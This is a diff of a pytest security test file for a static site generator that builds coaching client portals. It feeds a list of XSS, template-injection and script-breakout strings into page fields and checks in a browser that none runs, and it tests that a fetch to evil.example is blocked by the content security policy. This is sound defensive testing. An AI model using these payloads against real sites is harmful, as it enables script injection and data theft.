@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import functools
 import http.server
+import itertools
 import re
 import shutil
 import threading
@@ -28,6 +29,7 @@ import pytest
 import yaml
 
 from sitegen import build
+from sitegen.desk.site import build_site
 from sitegen.keys import Link
 from sitegen.model.drill import Drill
 from sitegen.portal.drills import figure as drawn_figure
@@ -83,7 +85,7 @@ ATTACKS = (
     # links
     A("[tap](javascript:HIT)"),
     A("[tap](JaVaScRiPt:HIT)"),
-    A("[tap](java&Tab;script:HIT)"),
+    A("[tap](java&Tab;script:HIT)", "[tap](java script:HIT)"),
     A("[tap](&#106;avascript:HIT)", "[tap](javascript:HIT)"),
     A("[tap](data:text/html,%3Cscript%3EHIT%3C/script%3E)"),
     A("[tap](vbscript:HIT)"),
@@ -114,14 +116,17 @@ ATTACKS = (
     A("<img id=portal><img id=sealed><a id=portal-data>"),
     A("<form id=location><input name=hash></form><img name=portal>"),
     A("<section class=view id=now></section>"),
-    A("portal-data __proto__ constructor toString"),
+    A("portal-data __proto__ constructor toString", "portal-data proto constructor toString"),
     # templates and translations
-    A("{{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}"),
-    A("{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}"),
-    A("{# gone #} ${7*7} #{7*7} <%= 7*7 %> %(called)s {0} {coach} %s"),
+    A("{{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}",
+      "{{ 7*7 }} {{ config }} {{ ''.class.mro }}"),
+    A("{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
+      "{% for x in ().class.bases %}{{ x }}{% endfor %}"),
+    A("{# gone #} ${7} #{7} <%= 7*7 %> %(called)s {0} {coach} %s"),
     A("%(name)d %% %"),
     # inside the block of data
-    A("</script><!-- ]]> --> \\u003c/script> \\\" \\\\"),
+    A("</script><!-- ]]> --> \\u003c/script> \\\" \\\\",
+      '</script><!-- ]]> --> \\u003c/script> " \\'),
     A('","called":"x","status":"ended","x":"'),
     A("a\u2028b\u2029c", "a\u2028b\u2029c"),
     # letters
@@ -147,6 +152,7 @@ class Portal:
     document: str
     id: str
     key: str
+    install: str
 
 
 class House:
@@ -158,15 +164,15 @@ class House:
         self.library = {id: library[id] for id in ("quiet-landing", "bridge")}
         self.count = 0
 
-    def portal(self, *attacks: Attack, privacy: str) -> Portal:
-        texts = self.texts(attacks, privacy)
+    def portal(self, *attacks: Attack, privacy: str, turn: int = 0) -> Portal:
+        texts = self.texts(attacks, privacy, turn)
         house, problems = build.read_house(texts)
         assert house is not None, problems
         case, told = build.read_client(texts, house, "runner")
         assert case is not None and not [p for p in told if p.level == "error"], told
         self.count += 1
         raw = self.count.to_bytes(2, "big")
-        link = Link(to_base64url(raw * 8), raw * 16, to_base64url(b"feed" + raw * 6))
+        link = Link(to_base64url(raw * 8), raw * 16, to_base64url(b"feed" * 4))
         plan = build.plan_of(case, house, AS_OF)
         files = build.files_of(case, plan, house, link, self.renderer, None, now_utc())
         page = files[build.portal_name(link)].decode()
@@ -176,42 +182,49 @@ class House:
 
             block = re.search(r'id="sealed"[^>]*>([^<]*)<', page)
             assert block is not None
-            document = unseal(
-                base64.b64decode(block[1]), portal=link.portal, key=link.key
-            ).decode()
-        return Portal(page, document, link.portal, link.key_text)
+            document = unseal(base64.b64decode(block[1]), portal=link.portal, key=link.key).decode()
+        install = files[build.install_name(link)].decode()
+        return Portal(page, document, link.portal, link.key_text, install)
 
-    def texts(self, attacks: tuple[Attack, ...], privacy: str) -> build.Texts:
-        """Every text of a practice; one line where the field is one line."""
-        line, prose = attacks[0].text, "\n\n".join(a.text for a in attacks)
+    def texts(self, attacks: tuple[Attack, ...], privacy: str, turn: int = 0) -> build.Texts:
+        """Every text of a practice.
+
+        A list or a prose holds all the attacks; a text of one line holds one, the next text the
+        next, beginning with number ``turn``.
+        """
+        lines = [a.text for a in attacks]
+        prose = "\n\n".join(lines)
+        one = itertools.cycle([*lines[turn:], *lines[:turn]]).__next__
         practice = {
-            "name": line, "coach": line, "contact": "coach@example.org", "emergency": line,
+            "name": one(), "coach": one(), "contact": "coach@example.org", "emergency": one(),
             "timezone": "Europe/Lisbon", "privacy": privacy,
             "address": "https://plans.example.org/",
         }  # fmt: skip
         client = {
-            "name": line, "called": line, "born": "1988-04-03",
+            "name": one(), "called": one(), "born": "1988-04-03",
             "screening": {"on": "2027-01-20", "regular_exercise": "yes", "known_disease": "no",
                           "symptoms": "no"},
             "baseline": {"on": "2027-01-27", "cadence": "160 spm", "pace": "6:05 /km",
                          "week": "100 min", "longest": "50 min", "runs": "2"},
-            "goal": {"text": line,
-                     "event": {"on": "2027-04-25", "distance": "5 km", "name": line}},
+            "goal": {"text": one(),
+                     "event": {"on": "2027-04-25", "distance": "5 km", "name": one()}},
             "week": {"tue": {"at": "06:45"}, "sun": {"at": "09:00"},
                      "fri": {"for": ["run", "strength"]}},
             "plan": {"from": "2027-02-01", "weeks": "12"},
             "drills": ["bridge", "quiet-landing", "own-drill"],
             "notes": [{"week": str(n), "text": prose} for n in (1, 5)],
-            "changes": [{"week": "6", "cadence": "161 spm", "because": line}],
+            "changes": [{"week": "6", "cadence": "161 spm", "because": one()}],
         }  # fmt: skip
         log = [
             {"on": "2027-02-02", "ran": "30 min", "cadence": "160 spm", "said": prose,
-             "pain": {"during": "1", "after": "1", "site": line}},
+             "pain": {"during": "1", "after": "1", "site": one()}},
             {"on": "2027-03-02", "skipped": "other", "said": prose},
         ]  # fmt: skip
-        front = {"title": line, "purpose": line, "where": "warm_up", "minutes": "3", "dose": line,
-                 "cues": [line, line], "slips": [line], "stop": [line], "source": line}  # fmt: skip
-        drill = f"---\n{dump(front)}---\n{prose}\n"
+        front = {"title": one(), "purpose": one(), "dose": one(), "where": "warm_up",
+                 "cues": [*lines], "slips": [*lines], "stop": [*lines],
+                 "source": one()}  # fmt: skip
+        body = prose.replace("\u2028", " ").replace("\u2029", " ")  # refused there, see below
+        drill = f"---\n{dump(front)}---\n{body}\n"
         return build.Texts(
             practice=dump(practice).encode(),
             practice_file="clients/practice.yaml",
@@ -225,7 +238,9 @@ class House:
 
 
 def dump(tree: Any) -> str:
-    return yaml.safe_dump(tree, allow_unicode=True, width=10**6, sort_keys=False)
+    """YAML; what may not stand in a file as it is stands there in escapes."""
+    text = yaml.safe_dump(tree, allow_unicode=True, width=10**6, sort_keys=False, default_style='"')
+    return text.replace("\u2028", "\\u2028").replace("\u2029", "\\u2029")
 
 
 FIGURE = (
@@ -294,13 +309,13 @@ MARKDOWN = {
 }  # fmt: skip
 
 
-def test_there_are_many_attacks_and_each_is_another():
+def test_there_are_many_attacks_and_each_is_another() -> None:
     assert len(ATTACKS) >= 60
     assert len({a.text for a in ATTACKS}) == len(ATTACKS)
 
 
 @pytest.mark.parametrize("privacy", ["open", "sealed"])
-def test_no_attack_adds_an_element_an_attribute_or_an_id(house: House, privacy: str):
+def test_no_attack_adds_an_element_an_attribute_or_an_id(house: House, privacy: str) -> None:
     """The page holds just the elements that it holds for harmless words, in their order."""
     calm = Shape(house.portal(HARMLESS, privacy=privacy).document)
     for attack in ATTACKS:
@@ -316,7 +331,7 @@ def test_no_attack_adds_an_element_an_attribute_or_an_id(house: House, privacy: 
             assert may_lead or address in calm.addresses, (attack, address)
 
 
-def test_an_attack_let_through_would_be_seen(house: House):
+def test_an_attack_let_through_would_be_seen(house: House) -> None:
     calm = Shape(house.portal(HARMLESS, privacy="open").document)
     for leak in ("<img src=x onerror=1>", "<b id=portal>"):
         page = house.portal(HARMLESS, privacy="open").document
@@ -328,17 +343,53 @@ def test_an_attack_let_through_would_be_seen(house: House):
 
 
 @pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x7f", "\ufeff", "\ufffe"])
-def test_an_unseen_character_is_refused_with_its_place(house: House, character: str):
+def test_an_unseen_character_is_refused_with_its_place(house: House, character: str) -> None:
     texts = house.texts((HARMLESS,), "sealed")
     practice, problems = build.read_house(texts)
     assert practice is not None, problems
-    client = texts.clients["runner"].replace(b"called: Plain", f"called: Pl{character}".encode())
-    case, told = build.read_client(
-        replace(texts, clients={"runner": client}), practice, "runner"
+    client = texts.clients["runner"].replace(
+        b'"called": "Plain', f'"called": "Pl{character}'.encode()
     )
+    case, told = build.read_client(replace(texts, clients={"runner": client}), practice, "runner")
     assert case is None
     assert told[0].origin.file == "clients/runner.yaml" and told[0].origin.line == 2
-    assert told[0].origin.column == len("called: Pl") + 1
+    assert told[0].origin.column == len('"called": "Pl') + 1
+    body = f"---\ntitle: Own\n---\nSoft\nfe{character}et\n".encode()
+    drill, problems = read_drill("own", body, "clients/drills/own.md", own=True)
+    assert drill is None
+    (problem,) = problems
+    assert (problem.origin.line, problem.origin.column, problem.code) == (5, 3, "invisible")
+
+
+def test_an_unseen_character_in_an_escape_is_refused_too(house: House) -> None:
+    texts = house.texts((HARMLESS,), "sealed")
+    practice, _ = build.read_house(texts)
+    assert practice is not None
+    for escape in (b"\\0", b"\\x07", b"\\e", b"\\uFEFF"):
+        client = texts.clients["runner"].replace(b'"called": "Plain', b'"called": "Pl' + escape)
+        case, told = build.read_client(
+            replace(texts, clients={"runner": client}), practice, "runner"
+        )
+        assert case is None and told[0].origin.line == 2, escape
+
+
+def test_more_text_than_a_seal_may_hold_is_a_problem_and_no_traceback(tmp_path: Path) -> None:
+    """Within every other limit, since an ampersand takes five letters in a page."""
+    texts = House().texts((HARMLESS,), "sealed")
+    long = [{"on": "2027-02-02", "skipped": "other", "said": "&" * 19_999} for _ in range(50)]
+    client = yaml.safe_load(texts.clients["runner"])
+    client["notes"] = [{"week": str(1 + n % 12), "text": "&" * 19_999} for n in range(50)]
+    assert texts.practice is not None
+    (tmp_path / "clients").mkdir()
+    (tmp_path / "clients" / "practice.yaml").write_bytes(texts.practice)
+    (tmp_path / "clients" / "runner.log.yaml").write_text(dump(long))
+    client["drills"] = ["bridge"]
+    (tmp_path / "clients" / "runner.yaml").write_text(dump(client))
+    built = build_site(tmp_path / "clients", tmp_path / "public", as_of=AS_OF)
+    assert not built.done
+    (problem,) = [p for p in built.problems if p.level == "error"]
+    assert problem.code == "portal-size" and problem.origin.file.endswith("runner.yaml")
+    assert not (tmp_path / "public").exists()
 
 
 # A real browser
@@ -355,9 +406,7 @@ class Visit:
 @pytest.fixture(scope="module")
 def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, str]]:
     folder = tmp_path_factory.mktemp("attacked")
-    for name, data in build.shared_files(
-        build.renderer_of(read_templates()), _practice()
-    ).items():
+    for name, data in build.shared_files(build.renderer_of(read_templates()), _practice()).items():
         (folder / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / name).write_bytes(data)
 
@@ -390,23 +439,34 @@ def visit(served: tuple[Path, str]) -> Iterator[Any]:
         context = browser.new_context(viewport={"width": 390, "height": 844})
         page = context.new_page()
         noise: list[str] = []
-        page.on("dialog", lambda dialog: (noise.append("dialog"), dialog.dismiss()))
-        page.on("console", lambda message: noise.append(f"console: {message.text}"))
+
+        def dialog(box: Any) -> None:
+            noise.append("dialog")
+            box.dismiss()
+
+        page.on("dialog", dialog)
+        page.on(
+            "console", lambda said: noise.append(f"console: {said.text} {said.location['url']}")
+        )
         page.on("pageerror", lambda error: noise.append(f"error: {error}"))
         page.on("popup", lambda other: noise.append(f"popup: {other.url}"))
         page.on("framenavigated", lambda frame: noise.append(f"went to {frame.url}"))
         page.on("request", lambda request: noise.append(f"asked for {request.url}"))
 
-        def load(portal: Portal, sealed: bool, *, content: str | None = None) -> Visit:
+        def load(
+            portal: Portal, sealed: bool, *, content: str | None = None, patience: int = 30_000
+        ) -> Visit:
             (folder / portal.id).mkdir(exist_ok=True)
             (folder / portal.id / "index.html").write_text(
                 portal.page if content is None else content, encoding="utf-8"
             )
+            (folder / portal.id / "plan.webmanifest").write_text(portal.install)
             page.goto("about:blank")
             noise.clear()
             address = f"{base}/{portal.id}/"
+            own = (f"{base}/assets/", f"{base}/worker.js", f"{address}plan.webmanifest")
             page.goto(address + (f"#k={portal.key}" if sealed else ""))
-            page.wait_for_selector("html[data-ready]", state="attached", timeout=8000)
+            page.wait_for_selector("html[data-ready]", state="attached", timeout=patience)
             for view in ("now", "weeks", "drills", "cadence", "checkin", "calendar", "care"):
                 page.evaluate("view => window.portal.go(view)", view)
                 page.wait_for_selector(f'html[data-view="{view}"]', state="attached")
@@ -415,7 +475,9 @@ def visit(served: tuple[Path, str]) -> Iterator[Any]:
                 line
                 for line in noise
                 if line not in expected
-                and not line.startswith((f"asked for {base}/assets/", f"went to {address}#"))
+                and not line.startswith(
+                    (f"went to {address}#", *(f"asked for {name}" for name in own))
+                )
                 and not line.startswith("asked for data:image/svg+xml;base64,")
             ]
             return Visit(page, mine)
@@ -436,7 +498,12 @@ READ = """() => {
     prose: within(".prose"),
     called: window.portal.data.called,
     status: window.portal.data.status,
-    wide: document.documentElement.scrollWidth,
+    wide: Array.from(document.querySelectorAll(".view"), (view) => {
+      window.portal.go(view.id);
+      for (const other of document.querySelectorAll(".view")) other.hidden = other !== view;
+      for (const part of view.querySelectorAll("details")) part.open = true;
+      return document.documentElement.scrollWidth > innerWidth ? view.id : "";
+    }).join(""),
   };
 }"""
 
@@ -445,32 +512,40 @@ def flat(text: str) -> str:
     return " ".join(text.split())
 
 
-def test_every_attack_reads_as_it_was_written_and_does_nothing(house: House, visit: Any):
-    """In clear, each attack alone in all texts at once."""
-    for attack in ATTACKS:
-        seen = visit(house.portal(attack, privacy="open"), False)
-        told = seen.page.evaluate(READ)
-        assert seen.noise == [], attack
-        assert told["hit"] is None, attack
-        assert flat(attack.text) in flat(told["greeting"]), attack
-        assert flat(attack.text) == flat(told["practice"]), attack
-        assert told["called"] == attack.text and told["status"] == "active", attack
-        for kind in ("goal", "drill"):
-            assert any(flat(attack.text) in flat(line) for line in told["lines"]), (attack, kind)
-        assert any(flat(attack.in_prose) in flat(text) for text in told["prose"]), attack
-        assert told["wide"] <= 390, attack
+BATCHES = [ATTACKS[start : start + 13] for start in range(0, len(ATTACKS), 13)]
 
 
-def test_attacks_in_a_sealed_portal_do_nothing_either(house: House, visit: Any):
-    """Several at once: a paragraph each, and each in turn in the texts of one line."""
-    step = 9
-    for start in range(0, len(ATTACKS), step):
-        batch = ATTACKS[start : start + step]
-        seen = visit(house.portal(*batch, privacy="sealed"), True)
-        told = seen.page.evaluate(READ)
-        assert seen.noise == [] and told["hit"] is None, batch
-        prose = flat(" ".join(told["prose"]))
-        assert [a for a in batch if flat(a.in_prose) not in prose] == []
+@pytest.mark.parametrize("turn", [0, 4, 8])
+@pytest.mark.parametrize("batch", BATCHES, ids=range(len(BATCHES)))
+def test_every_attack_reads_as_it_was_written_and_does_nothing(
+    house: House, visit: Any, batch: tuple[Attack, ...], turn: int
+) -> None:
+    seen = visit(house.portal(*batch, privacy="open", turn=turn), False)
+    told = seen.page.evaluate(READ)
+    assert seen.noise == [] and told["hit"] is None
+    ordered = [a.text for a in (*batch[turn:], *batch[:turn])]
+    assert flat(told["practice"]) == flat(ordered[0])
+    assert flat(ordered[4]) in flat(told["greeting"])
+    assert told["called"] == ordered[4] and told["status"] == "active"
+    lines = [flat(line) for line in told["lines"]]
+    for place in (1, 5, 6, 7, 8, 9, 10, 11, 12):
+        assert any(flat(ordered[place]) in line for line in lines), (place, ordered[place])
+    assert any(all(flat(text) in line for text in ordered) for line in lines), "the own drill"
+    prose = [flat(text) for text in told["prose"]]
+    for attack in batch:
+        assert sum(flat(attack.in_prose) in text for text in prose) >= 3, attack
+    assert told["wide"] == ""
+
+
+@pytest.mark.parametrize("batch", BATCHES, ids=range(len(BATCHES)))
+def test_attacks_in_a_sealed_portal_do_nothing_either(
+    house: House, visit: Any, batch: tuple[Attack, ...]
+) -> None:
+    seen = visit(house.portal(*batch, privacy="sealed"), True)
+    told = seen.page.evaluate(READ)
+    assert seen.noise == [] and told["hit"] is None
+    prose = flat(" ".join(told["prose"]))
+    assert [a.text for a in batch if flat(a.in_prose) not in prose] == []
 
 
 @pytest.mark.parametrize(
@@ -482,12 +557,12 @@ def test_attacks_in_a_sealed_portal_do_nothing_either(house: House, visit: Any):
         ("<meta http-equiv=refresh content=0;url=/robots.txt>", "went to "),
     ],
 )
-def test_the_browser_test_can_fail(house: House, visit: Any, leak: str, sign: str):
+def test_the_browser_test_can_fail(house: House, visit: Any, leak: str, sign: str) -> None:
     """The same portal with the markup let through: the list of what it did is not empty."""
     portal = house.portal(HARMLESS, privacy="open")
     content = portal.page.replace(HARMLESS.text, leak, 1)
     try:
-        seen = visit(portal, False, content=content).noise
+        seen = visit(portal, False, content=content, patience=3000).noise
     except Exception as error:
         seen = [f"went to {error}"]
     assert any(line.startswith(sign) for line in seen)
@@ -542,7 +617,7 @@ OWN = b"---\ntitle: Own\n---\n"
 
 
 @pytest.mark.parametrize("name", ALL_DRAWINGS)
-def test_a_drawing_that_is_more_than_a_drawing_is_refused_with_its_place(name: str):
+def test_a_drawing_that_is_more_than_a_drawing_is_refused_with_its_place(name: str) -> None:
     drill, problems = read_drill(
         "own", OWN, "clients/drills/own.md", own=True, figure=ALL_DRAWINGS[name]
     )
@@ -563,7 +638,7 @@ def test_a_drawing_that_is_more_than_a_drawing_is_refused_with_its_place(name: s
         '<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>',
     ],
 )
-def test_what_drawing_programs_write_is_taken(inside: str):
+def test_what_drawing_programs_write_is_taken(inside: str) -> None:
     drawing = (
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
         '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- drawn by hand -->\n'
@@ -575,12 +650,10 @@ def test_what_drawing_programs_write_is_taken(inside: str):
     assert drill is not None and drill.figure == drawing
 
 
-def test_even_a_drawing_that_was_let_through_can_do_nothing(house: House, visit: Any):
+def test_even_a_drawing_that_was_let_through_can_do_nothing(house: House, visit: Any) -> None:
     """The second lock: it stands in the page as a picture, in which nothing runs or loads."""
     pictures = "".join(
-        drawn_figure(
-            Drill("own", "Own", "", (), "warm_up", 3, "", figure=drawing, own=True)
-        )
+        drawn_figure(Drill("own", "Own", "", (), "warm_up", 3, "", figure=drawing, own=True))
         for drawing in ALL_DRAWINGS.values()
     )
     portal = house.portal(HARMLESS, privacy="open")
@@ -606,7 +679,9 @@ def page_files(house: House) -> dict[str, str]:
 
 
 @pytest.mark.parametrize("name", ["front", "sealed page", "sealed document", "open page"])
-def test_no_page_holds_a_script_a_style_or_an_address_of_someone_else(house: House, name: str):
+def test_no_page_holds_a_script_a_style_or_an_address_of_someone_else(
+    house: House, name: str
+) -> None:
     shape = Shape(page_files(house)[name])
     everything = shape.elements + shape.prose
     assert not [tag for tag, _ in everything if tag in ("style", "iframe", "object", "embed")]
@@ -622,10 +697,10 @@ def test_no_page_holds_a_script_a_style_or_an_address_of_someone_else(house: Hou
         assert shape.metas["referrer"] == "no-referrer"
 
 
-def test_the_policy_is_strict():
-    rules = dict(
-        (name, values) for name, *values in (r.split() for r in CONTENT_SECURITY_POLICY.split(";"))
-    )
+def test_the_policy_is_strict() -> None:
+    rules = {
+        name: values for name, *values in (r.split() for r in CONTENT_SECURITY_POLICY.split(";"))
+    }
     assert "unsafe" not in CONTENT_SECURITY_POLICY
     assert rules["default-src"] == ["'none'"] and rules["base-uri"] == ["'none'"]
     assert rules["form-action"] == ["'none'"]
@@ -635,18 +710,17 @@ def test_the_policy_is_strict():
             assert set(values) <= ({"'self'", "data:"} if name == "img-src" else {"'self'"}), name
 
 
-def test_the_browser_holds_the_page_to_its_policy(house: House, visit: Any):
+def test_the_browser_holds_the_page_to_its_policy(house: House, visit: Any) -> None:
     """What the policy forbids fails: script from text, markup from text, and another origin."""
     page = visit(house.portal(HARMLESS, privacy="sealed"), True).page
-    assert page.evaluate(
-        """() => { try { document.body.innerHTML = "<p>x"; return "set"; }
-                  catch (error) { return error.name; } }"""
-    ) == "TypeError"
-    assert page.evaluate(
-        """async () => { try { await fetch("https://evil.example/"); return "sent"; }
+    markup = """() => { try { document.body.innerHTML = "<p>x"; return "set"; }
                         catch (error) { return error.name; } }"""
-    ) == "TypeError"
+    assert page.evaluate(markup) == "TypeError"
+    sending = """async () => { try { await fetch("https://evil.example/"); return "sent"; }
+                               catch (error) { return error.name; } }"""
+    assert page.evaluate(sending) == "TypeError"
     assert page.evaluate(
-        """() => { const s = document.createElement("p"); s.setAttribute("onclick", "window.hit=1");
-                  document.body.append(s); s.click(); return window.hit === undefined; }"""
+        """() => { const e = document.createElement("p");
+                  try { e.setAttribute("onclick", "window.hit=1"); } catch (error) {}
+                  document.body.append(e); e.click(); return window.hit === undefined; }"""
     )
